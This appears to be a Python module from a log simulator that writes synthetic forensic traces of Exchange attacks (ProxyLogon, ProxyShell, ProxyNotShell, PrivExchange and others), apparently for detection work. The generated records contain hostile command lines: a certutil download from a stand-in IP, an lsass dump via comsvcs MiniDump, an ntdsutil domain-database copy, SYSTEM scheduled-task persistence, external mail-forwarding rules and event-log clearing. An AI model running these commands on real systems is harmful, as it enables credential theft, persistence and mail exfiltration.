"""attacks.py: the traces of what intruders did, by the published ones (facts of each flaw), without anything that would work.

Each function makes the records of one act or one chain and names what each source's record of it is worth alone (server.py)."""
from server import DEFENDER, EX, FOLDER_HASH, INERT, INETSRV
from life import BROWSERS, MS, SECOND, owa

AUTH = EX + r"\FrontEnd\HttpProxy\owa\auth"
PAGES = {"/owa/auth/": AUTH, "/aspnet_client/": r"C:\inetpub\wwwroot\aspnet_client", "/ecp/auth/": EX + r"\FrontEnd\HttpProxy\ecp\auth"}
PYTHON = ("python-requests/2.25.1", "python-requests/2.19.1", "ExchangeServicesClient/0.0.0.0", "python-requests/2.26.0")
TOOLS = ("antSword/v2.1", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "python-requests/2.24.0", BROWSERS[1])


def command_line(pool):
    return f'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "{pool}" -v "v4.0" -m 0'


# ---- ProxyLogon ----------------------------------------------------------------------------------------------------------

def ssrf(s, t, target, ip, agent, status=200, met=False, stem="/ecp/y.js", host=None, taken=None, size=None):
    """A request for a static file whose cookie names another place. `met`: the build does not believe it; no back end is asked."""
    protocol = "Owa" if stem.startswith("/owa") else "Ecp"
    anchor = f"ServerInfo~a]@{s.fqdn}:444/{target}#"
    if met:
        s.request(t, protocol, "POST", stem, "", "", ip, agent, status=status, backend="", host=host, anchor=anchor,
                  errors="Exception=System.Web.HttpException: Invalid value for the cookie header" if status >= 500 else "")
        return
    path, _, query = target.partition("?")
    s.request(t, protocol, "POST", stem, "", "", ip, agent, status=status, hint="X-BEResource-Cookie", anchor=anchor,
              cookie=f"Server~a]@{s.fqdn}:444/{target}#~1942063431", to_back="/" + path, back_query=query or "-",
              back_user=f"{s.netbios}\\{s.host}$", host=host, taken=taken, size=size)


def proxylogon_refused(s, t, ip, agent, statuses):
    """Attempts that no back end was asked for."""
    with s.act("attempts", httpproxy="attempt", iis1="attempt"):
        for target in ("autodiscover/autodiscover.xml?", "mapi/emsmdb/?", "ecp/proxyLogon.ecp?"):
            ssrf(s, t, target, ip, agent, status=s.luck.choice(statuses), met=True, stem=s.luck.choice(("/ecp/y.js", "/ecp/a.js", "/ecp/x9.js")))
            t += s.luck.randint(700, 4000) * MS


def proxylogon_session(s, t, ip, agent, stem):
    """Lookup, SID, and the session of the administrator (241)."""
    for i, (name, target, status, worth) in enumerate((
            ("autodiscover", "autodiscover/autodiscover.xml?", 200, "attempt"), ("mapi", "mapi/emsmdb/?", 200, "sign"),
            ("login", "ecp/proxyLogon.ecp?", 241, "effect"))):
        with s.act(name, httpproxy=worth, iis1="attempt"):
            ssrf(s, t + i * 1700 * MS, target, ip, agent, status, stem=stem)
    return t + 9 * SECOND


def proxylogon_page(s, t, ip, agent, stem, page, where="/owa/auth/"):
    """The address book's directory gets a script for an address and is reset: its back-up of the settings is the page."""
    canary, admin = s.hexes(18, s.luck) + ".", f"{s.sid}-500"
    url = f"ecp/DDI/DDIService.svc/%s?msExchEcpCanary={canary}&schema=%s"
    with s.act("read-oab", httpproxy="sign", iis1="attempt", ecp=""):
        ssrf(s, t, url % ("GetObject", "OABVirtualDirectory"), ip, agent, stem=stem)
        s.ecp(t - 150 * MS, admin, "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", "/" + url % ("GetObject", "OABVirtualDirectory") + "#")
    t += 3 * SECOND
    with s.act("set-oab", httpproxy="sign", iis1="attempt", ecp="effect", management="effect", iis2="sign"):
        ssrf(s, t, url % ("SetObject", "OABVirtualDirectory"), ip, agent, stem=stem)
        s.ecp(t - 150 * MS, admin, f"Set-OabVirtualDirectory.ExternalUrl='http://f/{INERT}'.Identity='{s.oab_guid}'", "/" + url % ("SetObject", "OABVirtualDirectory") + "#")
        s.cmdlet(t - 130 * MS, f'Set-OabVirtualDirectory, parameters -ExternalUrl "http://f/{INERT}" -Identity "OAB (Default Web Site)".')
    t += 10 * SECOND
    with s.act("reset-oab", httpproxy="sign", iis1="attempt", iis2="sign"):
        reset = "/" + url % ("SetObject", "ResetOABVirtualDirectory") + "#"
        ssrf(s, t + 5 * SECOND, url % ("SetObject", "ResetOABVirtualDirectory"), ip, agent, stem=stem, taken=5012)
        s.ecp(t + 1500 * MS, admin, f"Remove-OABVirtualDirectory.Force=$true.Identity='{s.oab_guid}'", reset)
        s.cmdlet(t + 1600 * MS, f'Remove-OabVirtualDirectory, parameters -Force "True" -Identity "{s.host}\\OAB (Default Web Site)".')
        s.ecp(t + 4 * SECOND, admin, f"New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='{s.host}'.Role='ClientAccess'"
              f".InternalUrl='https://{s.fqdn.lower()}/OAB'.Path='{EX}\\FrontEnd\\HttpProxy\\OAB'", reset)
        s.cmdlet(t + 4100 * MS, f'New-OabVirtualDirectory, parameters -WebSiteName "Default Web Site" -Server "{s.host}" -Role "ClientAccess" '
                 f'-InternalUrl "https://{s.fqdn.lower()}/OAB" -Path "{EX}\\FrontEnd\\HttpProxy\\OAB".')
    page_over_share(s, t + 200 * MS, PAGES[where] + "\\" + page)
    return t + 15 * SECOND


def page_over_share(s, t, path, name="shell-write"):
    """The server writes to its own share, so the kernel's SMB server makes the file, not a worker process."""
    me = dict(SubjectUserSid="S-1-5-18", SubjectUserName=s.host + "$", SubjectDomainName=s.netbios, SubjectLogonId="0x3e7", ObjectType="File",
              IpAddress="127.0.0.1", IpPort=s.luck.randint(49200, 64000), ShareName=r"\\*\C$", ShareLocalPath=r"\??\C:" + "\\")
    with s.act(name, security="effect", sysmon="artefact"):
        s.security(t, 5145, "A network share object was checked to see whether client can be granted desired access.", **me, RelativeTargetName=path[3:],
                   AccessMask="0x12019f", AccessList="%%4417", AccessReason="-")
        s.security(t + MS, 5145, "A network share object was checked to see whether client can be granted desired access.", **me, RelativeTargetName=path[3:],
                   AccessMask="0x2", AccessList="%%4417", AccessReason="-")
        s.file_made(t + 2 * MS, "System", path)


def compiled(s, t, page, where="/owa/auth/"):
    """First use: ASP.NET compiles the page, in a folder that keeps its name."""
    folder = "root" if where == "/aspnet_client/" else where.split("/")[1]
    temp = rf"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\{folder}\{s.hexes(8)}\{s.hexes(8)}"
    with s.act("compile", sysmon="artefact"):
        for i, name in enumerate((f"App_Web_{s.hexes(8)}.dll", f"{page}.{FOLDER_HASH[where]}.compiled")):
            s.file_made(t + 90 * i * MS, INETSRV.lower() + r"\w3wp.exe", temp + "\\" + name, 9288)


def shell_used(s, t, ip, agent, url, commands, pool="MSExchangeOWAAppPool", act="commands"):
    """Commands through a page: the request, cmd under the worker process, and what cmd starts."""
    for i, (inner, image) in enumerate(commands):
        moment = t + i * 140 * SECOND
        line = f'cmd /c cd /d "{AUTH}"&{inner}&echo [S]&cd&echo [E]'
        with s.act(act, sysmon="effect", security="artefact", iis1="artefact"):
            cmd = s.process(moment, r"C:\Windows\System32\cmd.exe", line, INETSRV + r"\w3wp.exe", command_line(pool), 9288)
            s.process(moment + 31 * MS, "C:\\Windows\\System32\\" + image, inner, r"C:\Windows\System32\cmd.exe", line, cmd)
            s.front(moment + 300 * MS, "POST", url, "-", "-", ip, agent, 200, taken=340)


DISCOVERY = (("whoami", "whoami.exe"), ('net group "Domain Admins" /domain', "net.exe"), ("quser", "quser.exe"))


def proxylogon(s, t, ip, user_ip, page=None, stem="/ecp/y.js", where="/owa/auth/", agent=None, tool=None, commands=DISCOVERY):
    """The whole chain, and the page used."""
    agent, page = agent or s.luck.choice(PYTHON[:3]), page or s.word() + ".aspx"
    t = proxylogon_session(s, t, ip, agent, stem)
    t = proxylogon_page(s, t, ip, agent, stem, page, where)
    compiled(s, t, page, where)
    shell_used(s, t + 400 * MS, user_ip, tool or s.luck.choice(TOOLS), where + page, commands)
    return {"file": PAGES[where] + "\\" + page, "url": where + page}


def mailbox_read(s, t, ip, agent, stem, victim, reads=6):
    """Mail read through the flaw: the server asks itself, in the name of the mailbox's owner. No file, no process."""
    actions = ("FindFolder", "FindItem") + ("GetItem", "GetItem", "GetAttachment") * (reads // 3)
    for i, action in enumerate(actions):
        moment, size = t + i * 11 * SECOND, s.luck.randint(40000, 900000)
        with s.act("mail-read", httpproxy="sign", ews="effect", iis1="attempt"):
            ssrf(s, moment, "EWS/Exchange.asmx?", ip, agent, stem=stem, size=size)
            s.ews(moment, f"{s.netbios}\\{s.host}$", ip, agent, action, victim["smtp"], size=size)


def unified_messaging(s, t):
    """The worker of Unified Messaging reads what it should not (CVE-2021-26857), and starts a program."""
    worker = EX + r"\Bin\UMWorkerProcess.exe"
    with s.act("um-error", application="sign"):
        s.event(t, "Application", "MSExchange Unified Messaging", 1082, "An unhandled exception occurred in a UM worker process: System.InvalidCastException: "
                "Unable to cast object of type 'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties' to type 'Microsoft.Exchange.UM'. "
                "Watson report about to be sent for process id: 7720, with parameters: E12, umworkerprocess", level="error")
    with s.act("um-child", sysmon="effect", security="effect"):
        cmd = s.process(t + 2 * SECOND, r"C:\Windows\System32\cmd.exe", r"cmd.exe /c whoami > C:\Windows\Temp\um.txt", worker, worker + " -pipe", 7720)
        s.process(t + 2100 * MS, r"C:\Windows\System32\whoami.exe", "whoami", r"C:\Windows\System32\cmd.exe", "cmd.exe /c whoami", cmd)


# ---- the flaws of autodiscover.json ----------------------------------------------------------------------------------------

def discover_request(s, t, ip, agent, back_stem, status=200, backend=None, user="", mailbox="a@b.c", anchor=None, more="", size=None):
    """A request for autodiscover.json whose address carries another place."""
    query = f"?{mailbox}{back_stem}{more}&Email=autodiscover/autodiscover.json%3F{mailbox}"
    s.request(t, "Autodiscover", "POST", "/autodiscover/autodiscover.json", query, user, ip, agent, status=status, backend=backend,
              anchor=anchor or f"SMTP:{mailbox}", to_back=back_stem.split("?")[0], back_user=f"{s.netbios}\\{s.host}$", size=size)


def proxyshell_session(s, t, ip, agent, target):
    """Lookup, SID, and a session of PowerShell in the name of the mailbox's owner."""
    with s.act("ps-autodiscover", httpproxy="attempt", iis1="attempt"):
        discover_request(s, t, ip, agent, "/autodiscover/autodiscover.xml")
    with s.act("ps-mapi", httpproxy="sign", iis1="sign", iis2=""):
        discover_request(s, t + SECOND, ip, agent, "/mapi/nspi", anchor=f"SMTP:{target['smtp']}")
    with s.act("ps-powershell", httpproxy="sign", iis1="sign", rps="sign", iis2=""):
        for i in range(4):
            moment = t + (4 + 2 * i) * SECOND
            discover_request(s, moment, ip, agent, "/powershell/", more=f"?X-Rps-CAT={s.hexes(40, s.luck)}", anchor=f"Sid~{target['sid']}")
            s.rps_http(moment, target["smtp"], ip, client_info=agent, status=200)
    return t + 14 * SECOND


def proxyshell(s, t, ip, user_ip, target, page=None, commands=DISCOVERY):
    """Role, export of the drafts into a page, clean-up, use."""
    agent, page = s.luck.choice(PYTHON), page or s.word() + ".aspx"
    where = s.luck.choice(("/aspnet_client/", "/owa/auth/"))
    path = PAGES[where] + "\\" + page
    t = proxyshell_session(s, t, ip, agent, target)
    with s.act("ps-role", management="effect", rps="effect"):
        role = f'-Role "Mailbox Import Export" -User "{target["name"]}"'
        s.cmdlet(t, f"New-ManagementRoleAssignment, parameters {role}.")
        s.rps_cmdlet(t, target["smtp"], target["sid"], "New-ManagementRoleAssignment", role)
    with s.act("ps-export", management="effect", rps="effect"):
        export = f'-Mailbox "{target["smtp"]}" -FilePath "\\\\127.0.0.1\\C${path[2:]}" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'{s.word()}\'"'
        s.cmdlet(t + 5 * SECOND, f"New-MailboxExportRequest, parameters {export}.")
        s.rps_cmdlet(t + 5 * SECOND, target["smtp"], target["sid"], "New-MailboxExportRequest", export)
    with s.act("ps-write", sysmon="effect"):
        s.file_made(t + 12 * SECOND, EX + r"\Bin\MSExchangeMailboxReplication.exe", path, 6620)
    with s.act("ps-clean"):
        s.cmdlet(t + 60 * SECOND, f'Remove-MailboxExportRequest, parameters -Identity "{target["name"]}\\MailboxExport" -Confirm "False".')
    compiled(s, t + 20 * SECOND, page, where)
    shell_used(s, t + 21 * SECOND, user_ip, s.luck.choice(TOOLS), where + page, commands, pool="DefaultAppPool" if where == "/aspnet_client/" else "MSExchangeOWAAppPool")
    return {"file": path, "url": where + page, "mailbox": target["smtp"]}


def discover_refused(s, t, ip, agent, status, powershell=True):
    with s.act("attempts", httpproxy="attempt", iis1="attempt"):
        for i, back in enumerate(("/autodiscover/autodiscover.xml", "/mapi/nspi", "/powershell/")[:3 if powershell else 2]):
            discover_request(s, t + i * 2 * SECOND, ip, agent, back, status=status, backend="")


def discover_aborted(s, t, ip, times=4):
    """The rule of URL Rewrite cuts the connection: only the kernel's log has the request."""
    with s.act("attempts", httperr="attempt"):
        for i in range(times):
            s.aborted(t + i * 3 * SECOND, ip, "GET", f"/autodiscover/autodiscover.json?a@{s.word(5)}.example/powershell/&Email=autodiscover/autodiscover.json%3fa@b.c")


def worker_child(s, t, pool, line, image="cmd.exe", act="child", **worth):
    """A worker process of Exchange starts a program, without any page."""
    with s.act(act, sysmon="effect", security="artefact", **worth):
        path = {"cmd.exe": r"C:\Windows\System32\cmd.exe", "powershell.exe": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"}[image]
        pid = s.process(t, path, line, INETSRV + r"\w3wp.exe", command_line(pool), 9412)
        s.process(t + 60 * MS, r"C:\Windows\System32\whoami.exe", "whoami", path, line, pid)


def proxynotshell(s, t, ip, who):
    """With the password of some mailbox: the same address, and a worker process of PowerShell that starts programs."""
    agent = s.luck.choice(("python-requests/2.28.1", "Mozilla/5.0 (X11; Linux x86_64) requests", "Microsoft WinRM Client"))
    with s.act("pns-powershell", httpproxy="sign", iis1="sign", rps="sign", iis2=""):
        for i in range(5):
            discover_request(s, t + 3 * i * SECOND, ip, agent, "/powershell/", user=who["smtp"], more=f"?PSVersion=5.1&X={s.hexes(6, s.luck)}")
            s.rps_http(t + 3 * i * SECOND, who["smtp"], ip, client_info=agent)
    worker_child(s, t + 20 * SECOND, "MSExchangePowerShellAppPool", r"cmd.exe /c whoami & certutil -urlcache -f http://203.0.113.250/a.txt C:\perflogs\a.txt")


def owassrf(s, t, ip, who):
    """PowerShell through OWA's own address, past the rule for autodiscover."""
    agent, box = s.luck.choice(("python-requests/2.28.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) requests")), f"{s.word(6)}%40{s.word(7)}.com"
    with s.act("owa-powershell", httpproxy="sign", iis1="sign", rps="sign", iis2=""):
        for i in range(5):
            moment = t + 3 * i * SECOND
            s.request(moment, "Owa", "POST", f"/owa/{box}/powershell", "", who["smtp"], ip, agent, auth="Basic", to_back="/powershell",
                      back_user=f"{s.netbios}\\{s.host}$", anchor=f"SMTP:{box.replace('%40', '@')}")
            s.rps_http(moment, who["smtp"], ip, client_info=agent)
    worker_child(s, t + 20 * SECOND, "MSExchangePowerShellAppPool", "powershell.exe -nop -w hidden -c whoami", "powershell.exe")


# ---- single flaws ----------------------------------------------------------------------------------------------------------

def proxytoken(s, t, ip, victim, forward_to):
    """A rule in somebody's mailbox, made without a password. The answer is 500, fixed or not."""
    agent = s.luck.choice(BROWSERS)
    stem = f"/ecp/{victim['smtp']}/RulesEditor/InboxRules.svc/NewObject"
    with s.act("token", iis1="attempt", httpproxy="attempt"):
        s.request(t, "Ecp", "POST", stem, f"?msExchEcpCanary={s.hexes(20, s.luck)}.&SecurityToken=x", "", ip, agent, status=500, backend=500, anchor=f"SMTP:{victim['smtp']}",
                  back_user="-")
    with s.act("rule", ecp="effect", management="effect"):
        s.ecp(t - 100 * MS, "", f"New-InboxRule.Mailbox='{victim['smtp']}'.Name='.'.ForwardTo='{forward_to}'.StopProcessingRules=$true", stem)
        s.cmdlet(t - 90 * MS, f'New-InboxRule, parameters -Mailbox "{victim["smtp"]}" -Name "." -ForwardTo "{forward_to}" -StopProcessingRules "True".')
    with s.act("forwarded", msgtrk=""):
        for i in range(3):
            s.tracked(t + (600 + 900 * i) * SECOND, victim["smtp"], forward_to, "FW: Plan", event="SEND", source="SMTP")


def static_key(s, t, ip, who):
    """A page's state signed with the key that all servers had (CVE-2020-0688), by somebody with the password of a mailbox."""
    agent, state = s.luck.choice(BROWSERS), "/wEPinert" + s.hexes(60, s.luck)
    query = f"?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE={state}"
    owa(s, t - 20 * SECOND, who, ip=ip, agent=agent, actions=1)
    with s.act("viewstate", iis1="attempt", httpproxy="attempt"):
        s.request(t, "Ecp", "GET", "/ecp/default.aspx", query, who["smtp"], ip, agent, status=500, auth="FBA", anchor=f"Sid~{who['sid']}")
    with s.act("panel-error", application="attempt"):  # it tells that the request came, on a fixed build too
        s.event(t + 200 * MS, "Application", "MSExchange Control Panel", 4, f"Current user: '{who['smtp']}'\r\nRequest for URL 'https://{s.site}:444/ecp/default.aspx"
                f"?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE={state}' failed with the following error:\r\nSystem.Web.HttpException (0x80004005): The state information "
                "is invalid for this page and might be corrupted.", level="error")
    worker_child(s, t + 400 * MS, "MSExchangeECPAppPool", "cmd.exe /c whoami")


def get_app(s, t, ip, who):
    """An app's configuration that is more than that (CVE-2021-42321)."""
    agent = "python-requests/2.26.0"
    with s.act("ews-config", iis1="", httpproxy=""):
        for i in range(3):
            s.request(t + i * SECOND, "Ews", "POST", "/EWS/Exchange.asmx", "", who["smtp"], ip, agent, auth="NTLM", anchor=f"Sid~{who['sid']}")
            s.ews(t + i * SECOND, who["smtp"], ip, agent, ("CreateUserConfiguration", "UpdateUserConfiguration", "GetClientAccessToken")[i])
    with s.act("get-app", management="sign", application="sign"):
        s.event(t + 3 * SECOND, "MSExchange Management", "MSExchange CmdletLogs", 6, "Cmdlet failed. Cmdlet Get-App, parameters -Mailbox \"%s\"." % who["smtp"]
                + "\r\nTask Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast object of type", level="error")
        s.event(t + 3200 * MS, "Application", "MSExchange Common", 4999, "Watson report about to be sent. Exception at System.Runtime.Serialization.Formatters.Binary."
                "BinaryFormatter.Deserialize(Stream serializationStream)", level="error")
    worker_child(s, t + 3 * SECOND, "MSExchangeServicesAppPool", "cmd.exe /c whoami")


def privexchange(s, t, ip, who):
    """The server is told to send notices to a strange machine, its logon is passed on, and the domain's rights are changed by it (CVE-2018-8581)."""
    with s.act("subscribe", ews="attempt", httpproxy="", iis1=""):
        s.request(t, "Ews", "POST", "/EWS/Exchange.asmx", "", f"{s.netbios}\\{who['name']}", ip, "ExchangeServicesClient/0.0.0.0", auth="NTLM", anchor=f"Sid~{who['sid']}")
        s.ews(t, f"{s.netbios}\\{who['name']}", ip, "ExchangeServicesClient/0.0.0.0", "PushSubscriptionRequest")
    with s.act("relay", **{"security@dc": "sign"}):
        s.logon(t + 4 * SECOND, s.host + "$", s.netbios, f"{s.sid}-1103", ip, package="NTLM", host=s.dc)
    with s.act("rights", **{"security@dc": "effect"}):
        s.security(t + 5 * SECOND, 5136, "A directory service object was modified.", host=s.dc, SubjectUserSid=f"{s.sid}-1103", SubjectUserName=s.host + "$",
                   SubjectDomainName=s.netbios, SubjectLogonId="0x5a1f20", DSName=s.domain, DSType="%%14676", ObjectDN=f"DC={s.company},DC=example",
                   ObjectClass="domainDNS", AttributeLDAPDisplayName="nTSecurityDescriptor", AttributeSyntaxOID="2.5.5.15",
                   AttributeValue=f"O:DAG:DAD:AI(OA;;CR;1131f6ad-9c07-11d1-f79f-00c04fc2dcd2;;{who['sid']})", OperationType="%%14674")


def calendar(s, t, ip):
    """The address that a scanner of CVE-2021-28480 asks for."""
    with s.act("calendar", iis1="attempt", httpproxy=""):
        for i in range(3):
            s.request(t + 4 * i * SECOND, "Owa", "POST", "/owa/calendar/a", "", "", ip, PYTHON[0], status=(404, 200, 200)[i], backend="")


# ---- after the door ---------------------------------------------------------------------------------------------------------

def credentials(s, t, ip, url, tool):
    """The memory of lsass.exe, written to a file by a library of Windows."""
    dump = rf"C:\Windows\Temp\{s.word(6)}.dmp"
    with s.act("lsass", sysmon="effect", security="artefact", iis1="artefact"):
        line = rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 812 {dump} full"
        cmd = s.process(t, r"C:\Windows\System32\cmd.exe", "cmd /c " + line, INETSRV + r"\w3wp.exe", command_line("MSExchangeOWAAppPool"), 9288)
        pid = s.process(t + 30 * MS, r"C:\Windows\System32\rundll32.exe", line, r"C:\Windows\System32\cmd.exe", "cmd /c " + line, cmd)
        s.sysmon(t + 120 * MS, 10, "Process accessed", SourceProcessGUID="{3C6A77F1-40C0-603F-AA00-000000000700}", SourceProcessId=pid, SourceThreadId=pid + 8,
                 SourceImage=r"C:\Windows\System32\rundll32.exe", TargetProcessGUID="{3C6A77F1-10A4-603E-0C00-000000000700}", TargetProcessId=812,
                 TargetImage=r"C:\Windows\system32\lsass.exe", GrantedAccess="0x1FFFFF", CallTrace=r"C:\Windows\SYSTEM32\ntdll.dll+a5c24|C:\Windows\System32\comsvcs.dll+39f21")
        s.file_made(t + 480 * MS, r"C:\Windows\System32\rundll32.exe", dump, pid)
        s.front(t + 600 * MS, "POST", url, "-", "-", ip, tool, 200, taken=900)
    return dump


def domain_taken(s, t, ip, url, tool):
    """The directory's database copied, an account made and put among the administrators, a task that starts with the machine."""
    commands = ((r'ntdsutil "ac i ntds" "ifm" "create full C:\Windows\Temp\n" q q', "ntdsutil.exe"),
                (r"schtasks /create /tn Winnet /sc minute /mo 45 /ru SYSTEM /tr C:\ProgramData\inert.exe", "schtasks.exe"),
                (r"C:\Windows\Temp\7z.exe a -t7z C:\ProgramData\it.zip C:\Windows\Temp\n", "7z.exe"))
    shell_used(s, t, ip, tool, url, commands, act="after")
    name = "svc_" + s.word(5)
    with s.act("account", security="effect"):
        who = dict(SubjectUserSid="S-1-5-18", SubjectUserName=s.host + "$", SubjectDomainName=s.netbios, SubjectLogonId="0x3e7")
        s.security(t + 500 * SECOND, 4720, "A user account was created.", TargetUserName=name, TargetDomainName=s.host, TargetSid=f"{s.sid}-2201", **who,
                   SamAccountName=name)
        s.security(t + 505 * SECOND, 4732, "A member was added to a security-enabled local group.", MemberName="-", MemberSid=f"{s.sid}-2201",
                   TargetUserName="Administrators", TargetDomainName="Builtin", TargetSid="S-1-5-32-544", **who)
    return name


def forward_mail(s, t, session, victims, outside):
    """With the rights of an administrator: a rule, a forward of the mailbox, and a rule of the transport."""
    with s.act("forwarding", management="effect", rps="effect"):
        for i, (cmdlet, parameters) in enumerate((
                ("New-InboxRule", f'-Mailbox "{victims[0]["smtp"]}" -Name "." -ForwardTo "{outside}"'),
                ("Set-Mailbox", f'-Identity "{victims[1]["smtp"]}" -ForwardingSmtpAddress "smtp:{outside}" -DeliverToMailboxAndForward "True"'),
                ("New-TransportRule", f'-Name "Archive" -SentTo "{victims[0]["smtp"]}" -BlindCopyTo "{outside}"'))):
            s.cmdlet(t + i * 20 * SECOND, f"{cmdlet}, parameters {parameters}.")
            s.rps_cmdlet(t + i * 20 * SECOND, session["smtp"], session["sid"], cmdlet, parameters)


def cleared(s, t, name="cleared"):
    """The logs of Windows are emptied: what stood in them before is gone, and each says so."""
    with s.act(name):
        for channel, number in (("Security", 1102), ("System", 104)):
            kind = "event/" + channel
            s.logs[kind] = [r for r in s.logs[kind] if r.t > t]
            s.event(t, channel, "Microsoft-Windows-Eventlog", number, "The audit log was cleared." if number == 1102 else "The System log file was cleared.",
                    {"SubjectUserSid": f"{s.sid}-500", "SubjectUserName": "Administrator", "SubjectDomainName": s.netbios, "SubjectLogonId": "0x9a31f",
                     **({"Channel": channel} if number == 104 else {})})


def antivirus(s, t, threat, resource):
    """Windows Defender stops what came, and says what it did."""
    common = {"Product Name": "Microsoft Defender Antivirus", "Threat Name": threat, "Severity Name": "Severe", "Category Name": "Exploit", "Path": resource,
              "Process Name": INETSRV.lower() + r"\w3wp.exe", "Detection User": r"NT AUTHORITY\SYSTEM"}
    with s.act("antivirus"):
        s.event(t, DEFENDER, "Microsoft-Windows-Windows Defender", 1116, "Microsoft Defender Antivirus has detected malware or other potentially unwanted software.",
                {**common, "Action Name": "Not Applicable"}, level="warning")
        s.event(t + SECOND, DEFENDER, "Microsoft-Windows-Windows Defender", 1117, "Microsoft Defender Antivirus has taken action to protect this machine from malware.",
                {**common, "Action Name": "Block"})
